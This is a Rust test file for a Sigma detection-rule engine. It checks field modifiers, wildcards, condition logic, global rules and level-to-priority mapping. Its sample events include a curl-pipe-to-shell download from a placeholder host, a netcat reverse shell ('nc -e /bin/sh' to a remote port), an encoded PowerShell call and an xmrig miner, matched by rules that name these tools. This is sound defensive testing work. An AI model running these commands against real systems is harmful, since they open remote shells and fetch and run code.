//! Sigma dialect: modifiers, wildcards, lists, conditions, logsources, levels.

use vigil_event::Priority;
use vigil_rulelang::testing::{ancestor, exec, fired, load, with_parents};
use vigil_rulelang::{RuleSet, SourceFile, Status};

fn sigma(detection: &str) -> String {
    format!(
        "title: T\nid: 11111111-2222-3333-4444-555555555555\nlogsource:\n  category: process_creation\n  product: linux\nlevel: high\ntags: [attack.execution, attack.t1059.004]\ndetection:\n{detection}"
    )
}

fn fires(detection: &str, event: &vigil_event::Event) -> bool {
    let text = sigma(detection);
    let set = load(&[("s.yml", &text)]);
    assert_eq!(set.rules().len(), 1, "did not load:\n{text}");
    !fired(&set, event).is_empty()
}

#[test]
fn modifiers_and_wildcards() {
    let e = with_parents(
        exec("/usr/bin/Curl", &["curl", "-fsSL", "http://x.test/Run.sh", "-o", "/tmp/r"]),
        vec![ancestor(10, "/usr/bin/bash", &["bash", "-c", "curl ... | sh"])],
    );
    let yes = [
        "  sel:\n    Image|endswith: /curl\n  condition: sel",
        "  sel:\n    Image: '/usr/bin/curl'\n  condition: sel",
        "  sel:\n    Image: '*/cu?l'\n  condition: sel",
        "  sel:\n    CommandLine|contains: 'run.SH'\n  condition: sel",
        "  sel:\n    CommandLine|contains|all: ['-fssl', 'x.test']\n  condition: sel",
        "  sel:\n    CommandLine|contains: ['nothing', 'here', 'x.test', 'a', 'b', 'c']\n  condition: sel",
        "  sel:\n    CommandLine|startswith: 'CURL -f'\n  condition: sel",
        "  sel:\n    CommandLine|contains: 'http://*.test/'\n  condition: sel",
        "  sel:\n    CommandLine|re: 'https?://[a-z]+\\.test/R'\n  condition: sel",
        "  sel:\n    CommandLine|re|i: 'RUN\\.SH'\n  condition: sel",
        "  sel:\n    CommandLine|cased|contains: 'Run.sh'\n  condition: sel",
        "  sel:\n    ParentImage|endswith: '/bash'\n    ParentCommandLine|contains: '| sh'\n  condition: sel",
        "  sel:\n    Image|exists: true\n  condition: sel",
        "  sel:\n    CurrentDirectory: null\n  condition: sel",
        "  sel:\n    - Image|endswith: /wget\n    - Image|endswith: /curl\n  condition: sel",
        "  keywords:\n    - 'x.test'\n  condition: keywords",
        "  sel:\n    ProcessId: 4242\n  condition: sel",
    ];
    for d in yes {
        assert!(fires(d, &e), "should fire:\n{d}");
    }
    let no = [
        "  sel:\n    Image|endswith: /wget\n  condition: sel",
        "  sel:\n    CommandLine|contains|all: ['-fssl', 'y.test']\n  condition: sel",
        "  sel:\n    CommandLine|cased|contains: 'run.sh'\n  condition: sel",
        "  sel:\n    CommandLine|re: 'RUN'\n  condition: sel",
        "  sel:\n    Image: 'curl'\n  condition: sel",
        "  sel:\n    CurrentDirectory|exists: true\n  condition: sel",
    ];
    for d in no {
        assert!(!fires(d, &e), "should not fire:\n{d}");
    }
}

#[test]
fn windash() {
    let e = exec("/usr/bin/pwsh", &["pwsh", "/enc", "AAAA"]);
    assert!(fires("  sel:\n    CommandLine|windash|contains: ' -enc '\n  condition: sel", &e));
    assert!(!fires("  sel:\n    CommandLine|contains: ' -enc '\n  condition: sel", &e));
}

#[test]
fn conditions() {
    let det = "  selection_a:\n    Image|endswith: /nc\n  selection_b:\n    CommandLine|contains: ' -e '\n  filter_local:\n    CommandLine|contains: '127.0.0.1'\n  filter_other:\n    CommandLine|contains: 'nope'\n";
    let nc = exec("/bin/nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
    let local = exec("/bin/nc", &["nc", "-e", "/bin/sh", "127.0.0.1", "4444"]);
    let listen = exec("/bin/nc", &["nc", "-l", "4444"]);
    let cases = [
        ("all of selection_* and not 1 of filter_*", [true, false, false]),
        ("1 of selection_*", [true, true, true]),
        ("all of them", [false, false, false]),
        ("1 of them", [true, true, true]),
        ("selection_a and not (selection_b or filter_local)", [false, false, true]),
        ("not selection_b and selection_a", [false, false, true]),
        ("any of filter*", [false, true, false]),
    ];
    for (cond, want) in cases {
        let d = format!("{det}  condition: {cond}\n");
        let got = [fires(&d, &nc), fires(&d, &local), fires(&d, &listen)];
        assert_eq!(got, want, "{cond}");
    }
}

#[test]
fn metadata_levels_globals_and_what_is_unsupported() {
    let text = r#"
action: global
title: Global
logsource:
  category: process_creation
  product: linux
level: critical
---
title: From global
id: aaaa
detection:
  sel:
    Image|endswith: /xmrig
  condition: sel
---
title: Root user
detection:
  sel:
    User: root
  condition: sel
---
title: Auditd
logsource:
  product: linux
  service: auditd
  category: null
detection:
  sel:
    type: EXECVE
  condition: sel
---
title: Aggregation
detection:
  sel:
    Image|endswith: /id
  condition: sel | count() > 5
---
title: Bad condition
detection:
  sel:
    Image|endswith: /id
  condition: sel and missing
---
title: Windows
logsource:
  product: windows
  category: process_creation
detection:
  sel:
    Image|endswith: '\cmd.exe'
  condition: sel
"#;
    let (set, report) = RuleSet::load(&[SourceFile::new("multi.yml", text)]);
    let f = &report.files[0];
    let status = |n: &str| f.rules.iter().find(|r| r.name == n).unwrap().clone();
    assert_eq!(status("From global").status, Status::Loaded);
    assert_eq!(status("From global").kinds, vec!["process-exec"]);
    assert_eq!(status("From global").priority, "Critical");
    assert_eq!(status("Root user").status, Status::Loaded);
    assert!(status("Auditd").reason.unwrap().contains("auditd"));
    assert!(status("Aggregation").reason.unwrap().contains("aggregation"));
    assert_eq!(status("Bad condition").status, Status::Invalid);
    assert!(status("Windows").reason.unwrap().contains("windows"));
    let mut buf = Vec::new();
    vigil_event::packed::encode_batch([&exec("/opt/xmrig", &["xmrig"])], &mut buf);
    let batch = vigil_event::packed::BatchView::new(&buf).unwrap();
    let m = set.matches(batch.get(0).unwrap());
    assert_eq!(m.len(), 1);
    assert_eq!(m[0].name, "From global");
    let mut as_root = exec("/usr/bin/id", &["id"]);
    as_root.process.as_mut().unwrap().user = "root".into();
    vigil_event::packed::encode_batch([&as_root], &mut buf);
    let batch = vigil_event::packed::BatchView::new(&buf).unwrap();
    let names: Vec<_> = set.matches(batch.get(0).unwrap()).iter().map(|m| m.name.to_string()).collect();
    assert_eq!(names, ["Root user"]);
    assert_eq!(m[0].message, "From global");
    assert_eq!(m[0].priority, Priority::Critical);
    assert!(m[0].fields.contains(&("sigma.id".to_string(), "aaaa".to_string())));
    // Fork and exit events never match a process_creation rule.
    let mut fork = exec("/opt/xmrig", &["xmrig"]);
    fork.kind = vigil_event::EventKind::ProcessFork;
    assert!(fired(&set, &fork).is_empty());
}

#[test]
fn levels_map_to_priorities() {
    for (level, want) in [
        ("informational", "Informational"),
        ("low", "Notice"),
        ("medium", "Warning"),
        ("high", "Error"),
        ("critical", "Critical"),
    ] {
        let text = sigma("  sel:\n    Image: x\n  condition: sel").replace("level: high", &format!("level: {level}"));
        let (_, report) = RuleSet::load(&[SourceFile::new("s.yml", text)]);
        assert_eq!(report.files[0].rules[0].priority, want);
    }
}

#[test]
fn lone_backslashes_and_empty_lists() {
    let e = exec("/usr/bin/printf", &["printf", "foo\\bar", "baz"]);
    assert!(fires("  sel:\n    CommandLine: 'printf foo\\bar*'\n  condition: sel", &e));
    let (_, report) =
        RuleSet::load(&[SourceFile::new("s.yml", sigma("  sel:\n    CommandLine|contains|all: []\n  condition: sel"))]);
    assert_eq!(report.files[0].rules[0].status, Status::Invalid);
}
